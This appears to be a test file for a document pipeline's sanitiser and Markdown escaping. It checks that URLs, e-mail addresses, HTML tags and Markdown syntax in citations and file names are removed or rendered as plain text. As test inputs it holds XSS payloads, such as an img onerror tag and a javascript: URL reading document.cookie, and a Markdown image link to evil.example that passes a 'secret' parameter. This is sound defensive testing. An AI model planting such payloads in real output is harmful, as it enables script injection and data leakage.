"""Display text names no place to go and holds nothing shaped like HTML; names and titles written into
Markdown stay text. One test per input an outside probe found getting through."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pipeline.escapes import citation_label, markdown_literal
from pipeline.guards.sanitise import sanitise
from pipeline.program.events import Evidence, Section, render_markdown
from pipeline.types import SourceRef
from tests.support.harmless import assert_markdown_safe

HOSTILE_NAME = "rent](https:evil.example) ![p](https:evil.example?d=secret) [y.md"
HOSTILE_TITLE = "Rent <img src=x onerror=window.__pwned=13>"
# What GFM renderers turn into links without any Markdown syntax: "scheme://", "www." and e-mail addresses.
GFM_AUTOLINK = re.compile(r"(?i)\b(?:https?|ftp)://|\bwww\.|[\w.+-]@[\w-]+\.\w|\b(?:mailto|xmpp):")


def _text(markdown: str) -> str:
    """What a CommonMark renderer shows of `markdown`: the text of every inline token."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    return "".join(c.content for t in tokens if t.type == "inline" for c in t.children or [] if c.type == "text")


# ---- URLs without "//", e-mail addresses ---------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "mailto:evil@evil.example",
        "https:evil.example/login",
        "javascript:alert(document.cookie)",
        "ftp:evil.example/x",
        "xmpp:evil@evil.example",
        "evil@evil.example",
        "first.last+tag@mail.evil.example",
        "//evil.example/pixel.png",
    ],
)
def test_uri_schemes_e_mail_addresses_and_protocol_relative_urls_are_removed(url: str) -> None:
    clean = sanitise(f"The rent is KSH 285,000 {url} payable monthly.", 600)
    assert clean.text == "The rent is KSH 285,000 payable monthly."
    assert clean.removed and clean.removed[0].split(":")[0] in ("url", "email")
    assert not GFM_AUTOLINK.search(clean.text)


@pytest.mark.parametrize(
    "text",
    ["Monthly rent: KSH 285,000", "KSH:285,000 at 10:30 on 1/2/2024", "Term: 3 years (clause 4.2:b)", "and/or"],
)
def test_colons_and_slashes_that_are_no_url_stay(text: str) -> None:
    clean = sanitise(text, 600)
    assert (clean.text, clean.removed) == (text, ())


# ---- HTML that CommonMark reads as text ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        (HOSTILE_TITLE, "Rent"),  # an unquoted attribute holding "=": text to CommonMark, a tag to a browser
        ("Rent `<img src=x onerror=alert(1)>` due", "Rent due"),  # inside a code span too
        ("Rent &lt;img src=x onerror=alert(1)&gt; due", "Rent due"),  # written as entities
        ("Rent <img src=x onerror=alert(1) due", "Rent img src=x onerror=alert(1) due"),  # unclosed: no opener left
    ],
)
def test_anything_shaped_like_a_tag_goes(text: str, kept: str) -> None:
    clean = sanitise(text, 600)
    assert clean.text == kept and "<" not in clean.text
    assert sanitise(clean.text, 600).text == clean.text


# ---- names and titles inside Markdown ------------------------------------------------------------------


def test_a_hostile_file_name_in_a_citation_renders_as_its_own_text() -> None:
    label = citation_label(HOSTILE_NAME, 3)
    markdown = f"- The rent is KSH 285,000. {label}"
    assert_markdown_safe(markdown)
    assert _text(markdown) == f"The rent is KSH 285,000. [{HOSTILE_NAME}, page 3]"


@pytest.mark.parametrize(
    "name",
    [
        "www.evil.example.pdf",
        "contact evil@evil.example.md",
        "https://evil.example.md",
        "<img src=x onerror=alert(1)>.md",
        "**bold** _x_ ~~gone~~ `code`.md",
        "&lt;b&gt; &#91;x&#93;.md",
        "back\\slash\\](x).md",
        "two\nlines\r- item\t.md",
    ],
)
def test_every_markdown_opener_in_a_name_is_escaped(name: str) -> None:
    literal = markdown_literal(name)
    assert "\n" not in literal and "\r" not in literal
    assert_markdown_safe(f"- x {literal}")
    assert _text(f"- x {literal}") == "x " + " ".join(name.split())
    assert not GFM_AUTOLINK.search(literal)


def test_ordinary_names_are_left_as_they_are() -> None:
    for name in ("lease.pdf", "2022 Q3 AAPL.pdf", "Offer_Letter.md", "cite_beta-00.md", "valuation (2).pdf"):
        assert markdown_literal(name) == name


@given(st.text(max_size=80))
def test_any_name_renders_as_itself_and_makes_no_link(name: str) -> None:
    literal = markdown_literal(name)
    assert_markdown_safe(f"- x {literal}")
    assert not GFM_AUTOLINK.search(literal)


def test_a_section_citing_a_hostile_file_has_no_link_in_its_markdown() -> None:
    source = SourceRef(document_id="doc-a", filename=HOSTILE_NAME, page=1)
    section = Section(
        index=0,
        sub_question="What is the rent?",
        answer="KSH 285,000",
        answer_sources=(source,),
        evidence=(Evidence(text="Monthly rent: KSH 285,000 payable in advance.", source=source),),
        sources=(source,),
    )
    markdown = render_markdown([section])
    assert_markdown_safe(markdown)
    assert _text(f"- {section.cited_answer}") == f"KSH 285,000 [{HOSTILE_NAME}, page 1]"
    assert (
        _text(f"- {section.cited_evidence[0]}")
        == f"Monthly rent: KSH 285,000 payable in advance. [{HOSTILE_NAME}, page 1]"
    )
